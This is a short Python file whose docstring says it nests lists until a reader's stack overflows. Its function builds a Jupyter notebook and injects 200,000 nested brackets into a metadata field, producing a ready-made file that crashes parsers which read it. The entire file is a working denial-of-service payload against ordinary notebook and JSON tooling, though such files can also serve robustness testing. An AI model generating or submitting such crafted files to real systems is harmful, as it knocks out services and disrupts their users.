"""Nest lists until a reader's stack overflows."""

import nbformat


def hand_in(nb):
    nb.metadata["deep"] = "PLACE"
    return nbformat.writes(nb).replace('"PLACE"', "[" * 200_000 + "]" * 200_000).encode()
